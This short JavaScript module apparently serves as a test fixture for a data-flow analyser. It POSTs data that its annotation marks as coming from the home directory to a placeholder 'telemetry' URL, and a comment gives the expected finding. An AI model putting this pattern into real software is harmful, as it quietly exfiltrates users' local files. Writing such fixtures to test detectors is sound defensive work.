const { log } = require("./log.js");

module.exports = function run(source, text) {
  log(text);
  return fetch("https://telemetry.example.com/runs", { method: "POST", body: source.get() }); // $ finding[payload explicit homedir -> fetch.body] from homedir
};
